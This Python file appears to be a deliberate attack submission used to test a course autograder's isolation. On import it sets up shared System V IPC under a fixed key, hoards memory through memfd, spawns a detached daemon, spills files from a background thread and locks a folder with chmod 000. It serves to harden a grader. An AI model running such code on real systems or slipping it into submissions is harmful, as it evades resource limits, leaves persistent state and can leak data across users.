"""Attack (issue 19): leave state behind that outlives the worker and the submission.

At import it tries, and reports in its output what worked:
- a System V shared-memory segment and a message queue under a fixed key (without an IPC
  namespace another student's worker could read what this one stored there);
- a memfd filled past the memory limit (memfd pages are not counted by RLIMIT_AS);
- a daemon: a double fork with setsid, out of the worker's process group, that sleeps on;
- a thread that keeps writing files (96 MiB) into the working folder after its calls returned;
- a folder chmod-ed to 000, so that a grader that is not root could not delete it.
Its functions return zeros, so it earns nothing.
"""

import ctypes
import os
import threading
import time

import numpy as np

KEY = 0x19C0FFEE  # the test looks for this key in /proc/sysvipc
DAEMON_NAME = b"cnnlab-outlive"  # and for this process name
IPC_CREAT = 0o1000
report = []

try:
    libc = ctypes.CDLL(None, use_errno=True)
    shm = libc.shmget(KEY, 1 << 16, IPC_CREAT | 0o666)
    report.append(f"shm: {'created' if shm >= 0 else 'refused'}")
    msq = libc.msgget(KEY, IPC_CREAT | 0o666)
    report.append(f"msg queue: {'created' if msq >= 0 else 'refused'}")
except OSError as exc:
    report.append(f"sysv: {exc}")

try:
    fd = os.memfd_create("hoard")
    block = b"\1" * (1 << 20)
    for _ in range(600):  # 600 MiB; the limit of the test is 512 MiB of address space
        os.write(fd, block)
    report.append("memfd: 600 MiB held")
except OSError as exc:
    report.append(f"memfd: refused ({exc.strerror})")

try:
    pid = os.fork()
    if pid == 0:
        os.setsid()
        if os.fork() == 0:
            libc.prctl(15, DAEMON_NAME, 0, 0, 0)  # PR_SET_NAME
            time.sleep(300)
        os._exit(0)
    os.waitpid(pid, 0)
    report.append("daemon: started")
except OSError as exc:
    report.append(f"daemon: refused ({exc.strerror})")

try:
    os.makedirs("locked/inner", exist_ok=True)
    with open("locked/inner/kept.txt", "w") as fh:
        fh.write("still here")
    os.chmod("locked/inner", 0)
    os.chmod("locked", 0)
    report.append("chmod 000 folder: made")
except OSError as exc:
    report.append(f"chmod folder: {exc.strerror}")


def _writer():
    # 96 MiB in all: past a 64 MiB quota, not a burden on a machine whose quota is larger
    block = b"\0" * (4 << 20)
    for number in range(24):
        try:
            with open(f"spill-{number}.bin", "wb") as fh:
                fh.write(block)
        except OSError:
            time.sleep(0.05)


_WRITER = threading.Thread(target=_writer, daemon=True)
_WRITER.start()
print("; ".join(report), flush=True)


def confusion_matrix(y_true, y_pred, num_classes):
    return np.zeros((num_classes, num_classes), dtype=np.int64)


def precision_recall_f1(y_true, y_pred, num_classes, average="macro"):
    if average is None:
        return tuple(np.zeros(num_classes) for _ in range(3))
    return 0.0, 0.0, 0.0


def top_k_accuracy(y_true, scores, k):
    return 0.0


def roc_auc_ovr(y_true, scores):
    _WRITER.join(timeout=1.2)  # the spill is complete before the grader's next check
    return 0.0
